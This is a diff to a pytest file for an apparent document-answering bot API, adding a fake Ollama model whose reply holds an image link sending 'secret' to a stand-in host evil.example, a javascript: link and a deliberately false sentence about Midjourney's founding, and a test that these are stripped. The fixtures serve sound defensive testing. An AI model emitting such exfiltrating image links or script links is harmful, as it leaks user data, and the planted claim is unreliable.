@@ -40,29 +40,44 @@ def _make_key(data_dir, name: str, sets: list[str]) -> str:
     return asyncio.run(make())
 
 
+GROUNDED = "No, LLMs are built specifically for text-based tasks and do not create images or videos on their own."
+# What a model answering through the fake Ollama writes: an image and a script link (made inert), a sentence
+# the passages back, and one they do not (removed by the grounding check).
+MODEL_REPLY = (
+    f"![x](https://evil.example/leak.png?q=secret) {GROUNDED} [1] [click](javascript:alert(1)) "
+    "Midjourney was founded in 1999 by Elon Musk in Paris. [1]"
+)
+
+
 @pytest.fixture(scope="module")
 def servers(tmp_path_factory, built_index):
-    """Two servers started together: `main` with keys (one for another set, one to revoke), `small` with login
-    on, a rate limit of 3 requests a minute per key and, until a test makes one, no key at all."""
+    """Three servers started together: `main` with keys (one for another set, one to revoke), `small` with login
+    on, a rate limit of 3 requests a minute per key and, until a test makes one, no key at all, and `llm`, whose
+    answerer is a model (a fake Ollama writing `MODEL_REPLY`)."""
+    from .fake_ollama import FakeOllama
     from .history_helpers import login_env
 
-    main_dir, small_dir = tmp_path_factory.mktemp("api-main"), tmp_path_factory.mktemp("api-small")
+    dirs = {name: tmp_path_factory.mktemp(f"api-{name}") for name in ("main", "small", "llm")}
     keys = {
-        "tests": _make_key(main_dir / "data", "tests", ["corpus"]),
-        "elsewhere": _make_key(main_dir / "data", "elsewhere", ["handbook"]),
-        "soon-revoked": _make_key(main_dir / "data", "soon-revoked", ["*"]),
+        "tests": _make_key(dirs["main"] / "data", "tests", ["corpus"]),
+        "elsewhere": _make_key(dirs["main"] / "data", "elsewhere", ["handbook"]),
+        "soon-revoked": _make_key(dirs["main"] / "data", "soon-revoked", ["*"]),
+        "llm": _make_key(dirs["llm"] / "data", "llm", ["corpus"]),
     }
-    small_env = login_env("anna")[0] | {"BOT_API_RATE_LIMIT": "3"}
-    specs = [
-        {"tmp_path": main_dir, "ready_path": "/health", "index_from": built_index.index_dir},
-        {"tmp_path": small_dir, "env": small_env, "ready_path": "/health", "index_from": built_index.index_dir},
-    ]
-    with serve_apps(*specs) as [(main_url, main_log), (small_url, small_log)]:
-        yield {
-            "main": (main_url, main_log, main_dir / "data"),
-            "small": (small_url, small_log, small_dir / "data"),
-            "keys": keys,
+    with FakeOllama(reply=MODEL_REPLY) as fake:
+        envs = {
+            "main": {},
+            "small": login_env("anna")[0] | {"BOT_API_RATE_LIMIT": "3"},
+            "llm": {"BOT_LLM": "ollama", "BOT_OLLAMA_BASE_URL": fake.url, "BOT_OLLAMA_MODEL": "fake"},
         }
+        specs = [
+            {"tmp_path": dirs[name], "env": envs[name], "ready_path": "/health", "index_from": built_index.index_dir}
+            for name in ("main", "small", "llm")
+        ]
+        with serve_apps(*specs) as started:
+            yield {
+                name: (url, log, dirs[name] / "data") for name, (url, log) in zip(("main", "small", "llm"), started)
+            } | {"keys": keys}
 
 
 def _client(url: str, key: str):
@@ -316,3 +331,23 @@ def test_fifty_api_clients_four_questions_each_all_answered(servers):
     assert summary["errors"] == 0 and summary["answers"] == 200, report.summary()
     # Its p95 is a figure of `bot load --api` on a quiet machine (docs/benchmark.md), not a pass/fail here.
     assert "Traceback" not in log_path.read_text()
+
+
+def test_a_models_answer_is_checked_and_inert_plain_and_streamed(servers):
+    """With a language model answering, the API gives the checked answer: no image or live link, and a sentence
+    the passages do not back is not in the text (plain or streamed); the notes name it, as the chat shows it."""
+    url, log_path, _data = servers["llm"]
+    client = _client(url, servers["keys"]["llm"])
+    reply = client.chat.completions.create(model="corpus", messages=[{"role": "user", "content": SEED}])
+    text = reply.choices[0].message.content
+    chunks = list(
+        client.chat.completions.create(model="corpus", stream=True, messages=[{"role": "user", "content": SEED}])
+    )
+    streamed = "".join(c.choices[0].delta.content or "" for c in chunks)
+    assert streamed == text and text.startswith(GROUNDED), text
+    for shown in (text, streamed):
+        assert "evil.example" not in shown and "javascript:" not in shown and "![" not in shown
+        assert "Elon Musk" not in shown
+    notes = reply.model_dump()["notes"]
+    assert any("sentences supported" in n for n in notes) and any("Elon Musk" in n and "removed" in n for n in notes)
+    assert reply.model_dump()["sources"] and "Traceback" not in log_path.read_text()
